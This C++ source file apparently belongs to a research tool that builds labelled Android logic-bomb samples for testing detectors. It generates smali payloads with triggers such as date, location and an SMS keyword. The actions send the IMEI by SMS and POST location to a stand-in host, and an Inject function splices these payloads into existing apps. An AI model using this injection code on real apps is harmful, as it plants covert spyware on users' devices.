// Copyright 2026 The TriggerForge Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include <algorithm>
#include <cstdio>

#include "triggerforge/error.hpp"
#include "triggerforge/payload.hpp"

namespace triggerforge {
namespace {

constexpr std::string_view kCurrentApplication =
    "invoke-static {}, Landroid/app/ActivityThread;->currentApplication()"
    "Landroid/app/Application;";
constexpr std::string_view kGetSystemService =
    "Landroid/content/Context;->getSystemService(Ljava/lang/String;)"
    "Ljava/lang/Object;";
constexpr std::string_view kSendTextMessage =
    "Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;"
    "Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;"
    "Landroid/app/PendingIntent;)V";
constexpr std::string_view kTelephonyManager =
    "Landroid/telephony/TelephonyManager;";

// Fixed artifacts embedded in payloads so detectors have stable strings.
constexpr std::string_view kDestinationNumber = "+15555550100";
constexpr std::string_view kRemoteUrl = "http://tz.example.invalid/collect";
constexpr std::string_view kConstantText = "TriggerZoo constant payload";

class Emitter {
 public:
  void operator()(std::string_view text) {
    lines_.push_back(Instruction::Line(text));
  }
  std::vector<Instruction> Take() { return std::move(lines_); }

 private:
  std::vector<Instruction> lines_;
};

std::string Cat(std::initializer_list<std::string_view> parts) {
  std::string out;
  for (auto p : parts) out += p;
  return out;
}

// Leaves the system service `name`, cast to `type`, in register `reg`.
// Clobbers `tmp`.
void SystemService(Emitter& e, std::string_view reg, std::string_view tmp,
                   std::string_view name, std::string_view type) {
  e(kCurrentApplication);
  e(Cat({"move-result-object ", reg}));
  e(Cat({"const-string ", tmp, ", \"", name, "\""}));
  e(Cat({"invoke-virtual {", reg, ", ", tmp, "}, ", kGetSystemService}));
  e(Cat({"move-result-object ", reg}));
  e(Cat({"check-cast ", reg, ", ", type}));
}

// cond = 1 unless `skip_branch` jumps over the assignment. The branch text
// ends with ", " so the skip label can be appended.
void SetCondUnless(Emitter& e, GenContext& ctx, std::string_view skip_branch) {
  std::string skip = ctx.Label("skip");
  e(Cat({"const/4 ", GenContext::kCondRegister, ", 0x0"}));
  e(Cat({skip_branch, skip}));
  e(Cat({"const/4 ", GenContext::kCondRegister, ", 0x1"}));
  e(skip);
}

MethodDef NativeDecl(const TypeDescriptor& owner, std::string_view name) {
  MethodSig sig{owner, std::string(name),
                {TypeDescriptor::Parse("Ljava/lang/String;")},
                TypeDescriptor::Parse("V")};
  return MethodDef::Make(std::move(sig), {"private", "static", "native"}, {});
}

void LoadNativeLibrary(Emitter& e) {
  e(Cat({"const-string v0, \"", kNativeLibraryName, "\""}));
  e("invoke-static {v0}, Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V");
}

void CallNative(Emitter& e, CodeBlock& block, const GenContext& ctx,
                std::string_view name, std::string_view arg_reg) {
  MethodDef decl = NativeDecl(ctx.bomb_class(), name);
  e(Cat({"invoke-static {", arg_reg, "}, ", decl.sig.ref()}));
  block.methods.push_back(std::move(decl));
}

void PhoneNumber(Emitter& e, std::string_view reg) {
  SystemService(e, "v0", "v1", "phone", kTelephonyManager);
  e(Cat({"invoke-virtual {v0}, ", kTelephonyManager,
         "->getLine1Number()Ljava/lang/String;"}));
  e(Cat({"move-result-object ", reg}));
}

// Writes the string in v4 to <external storage>/triggerzoo.txt.
void WriteToExternalFile(Emitter& e) {
  e("invoke-static {}, Landroid/os/Environment;->getExternalStorageDirectory()"
    "Ljava/io/File;");
  e("move-result-object v0");
  e("new-instance v1, Ljava/io/File;");
  e("const-string v2, \"triggerzoo.txt\"");
  e("invoke-direct {v1, v0, v2}, Ljava/io/File;-><init>(Ljava/io/File;"
    "Ljava/lang/String;)V");
  e("new-instance v0, Ljava/io/FileOutputStream;");
  e("invoke-direct {v0, v1}, Ljava/io/FileOutputStream;-><init>(Ljava/io/File;)V");
  e("invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B");
  e("move-result-object v2");
  e("invoke-virtual {v0, v2}, Ljava/io/FileOutputStream;->write([B)V");
  e("invoke-virtual {v0}, Ljava/io/FileOutputStream;->close()V");
}

// Sends the string in v4 by SMS to the fixed destination.
void SendSms(Emitter& e) {
  e("invoke-static {}, Landroid/telephony/SmsManager;->getDefault()"
    "Landroid/telephony/SmsManager;");
  e("move-result-object v1");
  e(Cat({"const-string v2, \"", kDestinationNumber, "\""}));
  e("const/4 v3, 0x0");
  e("const/4 v5, 0x0");
  e("const/4 v6, 0x0");
  e(Cat({"invoke-virtual/range {v1 .. v6}, ", kSendTextMessage}));
}

void NewTextView(Emitter& e, std::string_view reg) {
  e(kCurrentApplication);
  e("move-result-object v0");
  e(Cat({"new-instance ", reg, ", Landroid/widget/TextView;"}));
  e(Cat({"invoke-direct {", reg,
         ", v0}, Landroid/widget/TextView;-><init>(Landroid/content/Context;)V"}));
}

}  // namespace

std::string GenContext::Label(std::string_view stem) {
  return ":tz_" + std::string(stem) + "_" + std::to_string(next_label_++);
}

CodeBlock GenerateTrigger(TriggerType t, GenContext& ctx) {
  CodeBlock block;
  Emitter e;
  const std::string_view cond = GenContext::kCondRegister;
  switch (t) {
    case TriggerType::kTime:
      e("invoke-static {}, Ljava/util/Calendar;->getInstance()"
        "Ljava/util/Calendar;");
      e("move-result-object v0");
      e("invoke-virtual {v0}, Ljava/util/Calendar;->getTimeInMillis()J");
      e("move-result-wide v2");
      e("# 2030-01-01T00:00:00Z");
      e("const-wide v4, 0x1b8dac5b400L");
      e("cmp-long v1, v2, v4");
      SetCondUnless(e, ctx, "if-ltz v1, ");
      break;
    case TriggerType::kLocation:
      SystemService(e, "v0", "v1", "location",
                    "Landroid/location/LocationManager;");
      e("const-string v1, \"gps\"");
      e("invoke-virtual {v0, v1}, Landroid/location/LocationManager;->"
        "getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;");
      e("move-result-object v0");
      {
        std::string skip = ctx.Label("skip");
        e(Cat({"const/4 ", cond, ", 0x0"}));
        e(Cat({"if-eqz v0, ", skip}));
        e("invoke-virtual {v0}, Landroid/location/Location;->getLatitude()D");
        e("move-result-wide v2");
        e("# latitude 55.7558");
        e("const-wide v4, 0x404be0be0ded288dL");
        e("cmpl-double v1, v2, v4");
        e(Cat({"if-ltz v1, ", skip}));
        e(Cat({"const/4 ", cond, ", 0x1"}));
        e(skip);
      }
      break;
    case TriggerType::kSms: {
      std::string skip = ctx.Label("skip");
      e(kCurrentApplication);
      e("move-result-object v0");
      e("invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()"
        "Landroid/content/ContentResolver;");
      e("move-result-object v0");
      e("const-string v1, \"content://sms/inbox\"");
      e("invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)"
        "Landroid/net/Uri;");
      e("move-result-object v1");
      e("const/4 v2, 0x0");
      e("const/4 v3, 0x0");
      e("const/4 v4, 0x0");
      e("const/4 v5, 0x0");
      e("invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->"
        "query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;"
        "[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;");
      e("move-result-object v0");
      e(Cat({"const/4 ", cond, ", 0x0"}));
      e(Cat({"if-eqz v0, ", skip}));
      e("invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z");
      e("move-result v1");
      e(Cat({"if-eqz v1, ", skip}));
      e("const-string v1, \"body\"");
      e("invoke-interface {v0, v1}, Landroid/database/Cursor;->"
        "getColumnIndex(Ljava/lang/String;)I");
      e("move-result v1");
      e("invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)"
        "Ljava/lang/String;");
      e("move-result-object v1");
      e("const-string v2, \"TZ-ACTIVATE-7731\"");
      e("invoke-virtual {v2, v1}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z");
      e(Cat({"move-result ", cond}));
      e(skip);
      break;
    }
    case TriggerType::kNetwork:
      SystemService(e, "v0", "v1", "wifi", "Landroid/net/wifi/WifiManager;");
      e("invoke-virtual {v0}, Landroid/net/wifi/WifiManager;->isWifiEnabled()Z");
      e(Cat({"move-result ", cond}));
      break;
    case TriggerType::kBuild: {
      struct Probe {
        std::string_view field, value, reg;
      };
      constexpr Probe kProbes[] = {
          {"MODEL", "SM-G991B", "v2"},
          {"PRODUCT", "o1sxeea", "v3"},
          {"FINGERPRINT",
           "samsung/o1sxeea/o1s:13/TP1A.220624.014/G991BXXS7DWAA:user/"
           "release-keys",
           "v4"},
      };
      for (const auto& p : kProbes) {
        e(Cat({"sget-object v0, Landroid/os/Build;->", p.field,
               ":Ljava/lang/String;"}));
        e(Cat({"const-string v1, \"", p.value, "\""}));
        e("invoke-virtual {v1, v0}, Ljava/lang/String;->"
          "equals(Ljava/lang/Object;)Z");
        e(Cat({"move-result ", p.reg}));
      }
      e(Cat({"or-int ", cond, ", v2, v3"}));
      e(Cat({"or-int/2addr ", cond, ", v4"}));
      break;
    }
    case TriggerType::kCamera:
      e("invoke-static {}, Landroid/hardware/Camera;->getNumberOfCameras()I");
      e("move-result v0");
      e("const/4 v1, 0x2");
      SetCondUnless(e, ctx, "if-lt v0, v1, ");
      break;
    case TriggerType::kAddition:
      e("const/4 v0, 0x3");
      e("const/4 v1, 0x4");
      e("add-int v2, v0, v1");
      e("const/4 v3, 0x7");
      SetCondUnless(e, ctx, "if-ne v2, v3, ");
      break;
    case TriggerType::kMusic:
      SystemService(e, "v0", "v1", "audio", "Landroid/media/AudioManager;");
      e("invoke-virtual {v0}, Landroid/media/AudioManager;->isMusicActive()Z");
      e(Cat({"move-result ", cond}));
      break;
    case TriggerType::kIsScreenOn:
    case TriggerType::kIsScreenOff:
      SystemService(e, "v0", "v1", "power", "Landroid/os/PowerManager;");
      e("invoke-virtual {v0}, Landroid/os/PowerManager;->isInteractive()Z");
      if (t == TriggerType::kIsScreenOn) {
        e(Cat({"move-result ", cond}));
      } else {
        e("move-result v0");
        e(Cat({"xor-int/lit8 ", cond, ", v0, 0x1"}));
      }
      break;
  }
  block.lines = e.Take();
  return block;
}

CodeBlock GenerateGuarded(GuardedCodeType g, GenContext& ctx) {
  CodeBlock block;
  Emitter e;
  switch (g) {
    case GuardedCodeType::kReturn:
      break;
    case GuardedCodeType::kSmsImei:
      SystemService(e, "v0", "v1", "phone", kTelephonyManager);
      e(Cat({"invoke-virtual {v0}, ", kTelephonyManager,
             "->getDeviceId()Ljava/lang/String;"}));
      e("move-result-object v4");
      SendSms(e);
      break;
    case GuardedCodeType::kStopWifi:
      SystemService(e, "v0", "v1", "wifi", "Landroid/net/wifi/WifiManager;");
      e("const/4 v1, 0x0");
      e("invoke-virtual {v0, v1}, Landroid/net/wifi/WifiManager;->"
        "setWifiEnabled(Z)Z");
      break;
    case GuardedCodeType::kWriteString:
      e(Cat({"const-string v4, \"", kConstantText, "\""}));
      WriteToExternalFile(e);
      break;
    case GuardedCodeType::kWritePhoneNumber:
      PhoneNumber(e, "v4");
      WriteToExternalFile(e);
      break;
    case GuardedCodeType::kSetText:
      NewTextView(e, "v1");
      e(Cat({"const-string v2, \"", kConstantText, "\""}));
      e("invoke-virtual {v1, v2}, Landroid/widget/TextView;->"
        "setText(Ljava/lang/CharSequence;)V");
      break;
    case GuardedCodeType::kSmsString:
      e(Cat({"const-string v4, \"", kConstantText, "\""}));
      SendSms(e);
      break;
    case GuardedCodeType::kHttpLocation:
      SystemService(e, "v0", "v1", "phone", kTelephonyManager);
      e(Cat({"invoke-virtual {v0}, ", kTelephonyManager,
             "->getCellLocation()Landroid/telephony/CellLocation;"}));
      e("move-result-object v2");
      SystemService(e, "v0", "v1", "location",
                    "Landroid/location/LocationManager;");
      e("const-string v1, \"gps\"");
      e("invoke-virtual {v0, v1}, Landroid/location/LocationManager;->"
        "getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;");
      e("move-result-object v3");
      e("new-instance v4, Ljava/lang/StringBuilder;");
      e("invoke-direct {v4}, Ljava/lang/StringBuilder;-><init>()V");
      e("invoke-virtual {v4, v3}, Ljava/lang/StringBuilder;->"
        "append(Ljava/lang/Object;)Ljava/lang/StringBuilder;");
      e("invoke-virtual {v4, v2}, Ljava/lang/StringBuilder;->"
        "append(Ljava/lang/Object;)Ljava/lang/StringBuilder;");
      e("invoke-virtual {v4}, Ljava/lang/StringBuilder;->toString()"
        "Ljava/lang/String;");
      e("move-result-object v4");
      e("new-instance v5, Ljava/net/URL;");
      e(Cat({"const-string v6, \"", kRemoteUrl, "\""}));
      e("invoke-direct {v5, v6}, Ljava/net/URL;-><init>(Ljava/lang/String;)V");
      e("invoke-virtual {v5}, Ljava/net/URL;->openConnection()"
        "Ljava/net/URLConnection;");
      e("move-result-object v5");
      e("check-cast v5, Ljava/net/HttpURLConnection;");
      e("const/4 v6, 0x1");
      e("invoke-virtual {v5, v6}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V");
      e("invoke-virtual {v5}, Ljava/net/HttpURLConnection;->getOutputStream()"
        "Ljava/io/OutputStream;");
      e("move-result-object v6");
      e("invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B");
      e("move-result-object v4");
      e("invoke-virtual {v6, v4}, Ljava/io/OutputStream;->write([B)V");
      e("invoke-virtual {v6}, Ljava/io/OutputStream;->close()V");
      break;
    case GuardedCodeType::kSetTextReflection:
      NewTextView(e, "v1");
      e("invoke-virtual {v1}, Ljava/lang/Object;->getClass()Ljava/lang/Class;");
      e("move-result-object v2");
      e("const-string v3, \"setText\"");
      e("const/4 v4, 0x1");
      e("new-array v4, v4, [Ljava/lang/Class;");
      e("const-class v5, Ljava/lang/CharSequence;");
      e("const/4 v6, 0x0");
      e("aput-object v5, v4, v6");
      e("invoke-virtual {v2, v3, v4}, Ljava/lang/Class;->getMethod("
        "Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;");
      e("move-result-object v2");
      e("const/4 v4, 0x1");
      e("new-array v4, v4, [Ljava/lang/Object;");
      e(Cat({"const-string v5, \"", kConstantText, "\""}));
      e("aput-object v5, v4, v6");
      e("invoke-virtual {v2, v1, v4}, Ljava/lang/reflect/Method;->invoke("
        "Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;");
      break;
    case GuardedCodeType::kExit:
      e("const/4 v0, 0x0");
      e("invoke-static {v0}, Ljava/lang/System;->exit(I)V");
      break;
    case GuardedCodeType::kNativeLogString:
      LoadNativeLibrary(e);
      e(Cat({"const-string v0, \"", kConstantText, "\""}));
      CallNative(e, block, ctx, "nativeLogString", "v0");
      break;
    case GuardedCodeType::kNativeLogModel:
      LoadNativeLibrary(e);
      e("sget-object v0, Landroid/os/Build;->MODEL:Ljava/lang/String;");
      CallNative(e, block, ctx, "nativeLogModel", "v0");
      break;
    case GuardedCodeType::kNativeWritePhoneNumber:
      LoadNativeLibrary(e);
      PhoneNumber(e, "v4");
      CallNative(e, block, ctx, "nativeWritePhoneNumber", "v4");
      break;
    case GuardedCodeType::kNativePhoneNumberNetwork:
      LoadNativeLibrary(e);
      PhoneNumber(e, "v4");
      CallNative(e, block, ctx, "nativeSendPhoneNumber", "v4");
      break;
  }
  block.lines = e.Take();
  return block;
}

int RequiredApiLevel(TriggerType t, GuardedCodeType g) {
  GenContext ctx(TypeDescriptor::Parse("Lprobe/Probe;"));
  std::vector<Instruction> code = GenerateTrigger(t, ctx).lines;
  for (auto& ins : GenerateGuarded(g, ctx).lines) code.push_back(std::move(ins));
  int level = 1;
  for (const auto& ins : code) {
    for (const auto& anchor : ApiAnchors()) {
      if (ins.text.find(anchor.pattern) != std::string::npos) {
        level = std::max(level, anchor.min_api);
      }
    }
  }
  return level;
}

Payload AssemblePayload(TriggerType t, GuardedCodeType g,
                        const AppBundle& bundle, Rng& rng) {
  std::string package_path = bundle.package_name;
  std::replace(package_path.begin(), package_path.end(), '.', '/');

  std::optional<TypeDescriptor> name;
  for (int attempt = 0; attempt < 16 && !name; ++attempt) {
    char hex[9];
    std::snprintf(hex, sizeof hex, "%08x",
                  static_cast<unsigned>(rng.Next() & 0xffffffffULL));
    auto candidate =
        TypeDescriptor::Parse("L" + package_path + "/gen/Zoo" + hex + ";");
    if (!bundle.classes.contains(candidate)) name = std::move(candidate);
  }
  if (!name) {
    throw Error(ErrorKind::kNameCollision,
                "16 generated class names collide in " + bundle.package_name);
  }

  GenContext ctx(*name);
  CodeBlock trigger = GenerateTrigger(t, ctx);
  CodeBlock guarded = GenerateGuarded(g, ctx);
  const std::string try_start = ctx.Label("try_start");
  const std::string try_end = ctx.Label("try_end");
  const std::string end = ctx.Label("end");

  std::vector<Instruction> body;
  body.push_back(Instruction::Line(".registers " +
                                   std::to_string(GenContext::kRegisters)));
  body.push_back(Instruction::Line("", ""));
  body.push_back(Instruction::Line(try_start));
  for (auto& ins : trigger.lines) body.push_back(std::move(ins));
  body.push_back(Instruction::Line(
      "if-eqz " + std::string(GenContext::kCondRegister) + ", " + end));
  for (auto& ins : guarded.lines) body.push_back(std::move(ins));
  body.push_back(Instruction::Line(try_end));
  body.push_back(Instruction::Line(".catchall {" + try_start + " .. " +
                                   try_end + "} " + end));
  body.push_back(Instruction::Line("", ""));
  body.push_back(Instruction::Line(end));
  body.push_back(Instruction::Line("return-void"));

  MethodSig bomb{*name, "bomb", {}, TypeDescriptor::Parse("V")};
  ClassDef cls = ClassDef::Make(*name, TypeDescriptor::Parse("Ljava/lang/Object;"),
                                {"public", "final"});
  cls.AddMethod(MethodDef::Make(bomb, {"public", "static"}, std::move(body)));
  for (auto& decl : guarded.methods) cls.AddMethod(std::move(decl));

  Payload p;
  p.code.class_def = std::move(cls);
  p.code.callsite.push_back(
      Instruction::Line("invoke-static {}, " + bomb.ref()));
  p.spec.trigger = t;
  p.spec.guarded = g;
  p.spec.bomb_class = *name;
  p.spec.bomb_method = std::move(bomb);
  p.spec.permissions = PayloadPermissions(t, g);
  p.spec.malicious = IsMalicious(g);
  if (IsNative(g)) {
    for (auto abi : kNativeAbis) {
      p.spec.native_reqs.insert(
          {std::string(abi), std::string(kNativeLibraryFile)});
    }
  }
  return p;
}

AppBundle Inject(const AppBundle& bundle, const InsertionPoint& ip,
                 const PayloadClass& payload) {
  const TypeDescriptor& fresh = payload.class_def.descriptor;
  if (bundle.classes.contains(fresh)) {
    throw Error(ErrorKind::kNameCollision, fresh.raw() + " already exists");
  }
  AppBundle out = bundle;
  auto host = out.classes.find(ip.method.owner);
  MethodDef* method =
      host == out.classes.end() ? nullptr : host->second.FindMethod(ip.method);
  if (method == nullptr) {
    throw Error(ErrorKind::kMethodNotFound,
                ip.method.ref() + " is not defined in the bundle");
  }
  const std::size_t at = method->entry_index();
  std::vector<Instruction> callsite = payload.callsite;
  if (at < method->body.size()) {
    for (auto& ins : callsite) ins.indent = method->body[at].indent;
  }
  method->body.insert(method->body.begin() + static_cast<std::ptrdiff_t>(at),
                      callsite.begin(), callsite.end());
  out.classes.emplace(fresh, payload.class_def);
  return out;
}

}  // namespace triggerforge
